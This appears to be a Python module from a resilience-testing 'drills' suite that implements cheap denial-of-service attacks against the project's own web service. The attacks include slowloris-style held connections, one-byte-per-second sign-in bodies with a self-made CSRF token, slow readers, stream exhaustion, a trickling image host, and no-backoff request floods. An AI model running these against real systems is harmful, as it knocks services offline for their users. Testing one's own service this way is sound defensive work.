"""Attacks that cost the attacker almost nothing: held connections and trickling bodies."""

from __future__ import annotations

import asyncio
import json
import socket

from drills.attacks.connection import Target, ask_json, hammer, head

HELD = 64
STREAMS = 600
SIGN_IN = "/_allauth/browser/v1/auth/login"
# CSRF: attackers make their own token, because a request without one is refused unread.
TOKEN = "x" * 32
OWN = {
    "Content_Type": "application/json",
    "Cookie": f"csrftoken={TOKEN}",
    "X_CSRFToken": TOKEN,
}
BYTE_EVERY_S = 1.0
THREADS, PICTURES = 8, 200


async def slow_body(target: Target) -> None:
    """Send sign-in bodies at one byte per second."""
    said = head("POST", SIGN_IN, target.connection().netloc, length=600, **OWN)
    await _hold(target, said, HELD)


async def slow_headers(target: Target) -> None:
    """Send requests whose headers never end."""
    await _hold(target, b"GET / HTTP/1.1\r\nX-Slow: ", HELD * 2)


async def slow_chunks(target: Target) -> None:
    """Send bodies without a length, in chunks of one byte."""
    own = {"Transfer_Encoding": "chunked", **OWN}
    said = head("POST", SIGN_IN, target.connection().netloc, length=0, **own)
    await _hold(target, said, HELD, drop=b"1\r\na\r\n")


async def slow_readers(target: Target) -> None:
    """Read large responses at one byte per second."""

    async def one(number: int) -> None:
        connection = target.connection(number)
        path = f"{target.base}/carousels/{target.facts['carousel']}"
        while True:
            try:
                _, writer = await connection.open()
                sock: socket.socket = writer.get_extra_info("socket")
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
                writer.write(head("GET", path, connection.netloc, length=0, **target.entitled))
                writer.transport.pause_reading()  # type: ignore[attr-defined]  # asyncio's transports have it
                while not writer.is_closing():
                    await asyncio.sleep(BYTE_EVERY_S * 10)
            except OSError as end:
                target.answers[type(end).__name__] += 1
                await asyncio.sleep(BYTE_EVERY_S)

    target.begun.set()
    await asyncio.gather(*(one(number) for number in range(HELD)))


async def _hold(target: Target, said: bytes, times: int, drop: bytes = b"a") -> None:
    """Hold connections open that send ``said`` and then ``drop`` forever; reopen each when it is closed."""

    async def one(number: int) -> None:
        connection = target.connection(number)
        while True:
            try:
                reader, writer = await connection.open()
                writer.write(said)
                while not reader.at_eof() and not writer.is_closing():
                    writer.write(drop)
                    await writer.drain()
                    await asyncio.sleep(BYTE_EVERY_S)
                target.answers["ended"] += 1
            except OSError as end:
                target.answers[type(end).__name__] += 1
                await asyncio.sleep(BYTE_EVERY_S)

    asyncio.get_running_loop().call_later(3.0, target.begun.set)
    await asyncio.gather(*(one(number) for number in range(times)))


async def streams(target: Target) -> None:
    """Open more event streams of one render than an agency may have."""

    async def one(number: int) -> None:
        connection, own = target.connection(number), target.connection(number)
        while True:
            status, got = await ask_json(
                target, own, "POST", f"renders/{target.facts['render']}/events"
            )
            if status >= 400:
                target.answers[str(status)] += 1
                await asyncio.sleep(1)
                continue
            own.close()
            try:
                connection = type(connection)(target.events, "127.66.0.1")
                reader, writer = await connection.open()
                place = got["url"].removeprefix(target.events)
                writer.write(head("GET", place, connection.netloc, length=0))
                status = int((await reader.readuntil(b"\r\n")).split(b" ")[1])
                target.answers[str(status)] += 1
                while status == 200 and await reader.read(4_096):
                    pass
            except (OSError, asyncio.IncompleteReadError) as end:
                target.answers[type(end).__name__] += 1
            await asyncio.sleep(1)

    asyncio.get_running_loop().call_later(5.0, target.begun.set)
    await asyncio.gather(*(one(number) for number in range(STREAMS)))


async def slow_host(target: Target) -> None:
    """Import threads with hundreds of pictures on a host that sends a byte now and then."""

    async def trickle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        target.answers["pictures asked for"] += 1
        try:
            await reader.readuntil(b"\r\n\r\n")
            writer.write(
                b"HTTP/1.1 200 OK\r\nContent-Type: image/jpeg\r\nContent-Length: 900000\r\n\r\n"
            )
            while not writer.is_closing():
                writer.write(b"\xff")
                await writer.drain()
                await asyncio.sleep(BYTE_EVERY_S * 2)
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    await asyncio.start_server(trickle, "127.0.0.1", target.port)
    connection = target.connection()
    for number in range(THREADS):
        pictures = [
            {
                "id": str(at),
                "type": "image",
                "url": f"http://127.0.0.1:{target.port}/{number}/{at}.jpg",
            }
            for at in range(PICTURES)
        ]
        account = {"id": "1", "acct": "ines", "username": "ines", "display_name": "Ines"}
        statuses = [
            {
                "id": str(at + 1),
                "account": account,
                "content": f"<p>Status {at} of a thread with pictures.</p>",
                "created_at": "2026-03-01T10:00:00.000Z",
                "in_reply_to_id": str(at) if at else None,
                "in_reply_to_account_id": "1" if at else None,
                "media_attachments": pictures[at * 4 : at * 4 + 4],
                "url": f"https://social.example/@ines/{at}",
                "uri": f"https://social.example/users/ines/statuses/{at}",
            }
            for at in range(PICTURES // 4)
        ]
        text = json.dumps({"ancestors": statuses[:1], "descendants": statuses[1:]})
        wanted = {"client": target.facts["client"], "text": text}
        status, _ = await ask_json(target, connection, "POST", "threads", wanted)
        target.answers[str(status)] += 1
    target.begun.set()
    await asyncio.Event().wait()


async def polls(target: Target) -> None:
    """Poll one render with many files, over and over."""
    await hammer(
        target,
        16,
        lambda connection, _: _status(
            target, connection, "GET", f"renders/{target.facts['render']}"
        ),
    )


async def calls(target: Target) -> None:
    """Send as many requests as possible with one key, without a pause after refusals."""
    await hammer(
        target, 64, lambda connection, _: _status(target, connection, "GET", "clients"), mercy=0.0
    )


async def _status(target: Target, connection: object, method: str, path: str) -> int:
    status, _ = await ask_json(target, connection, method, path)  # type: ignore[arg-type]
    return status
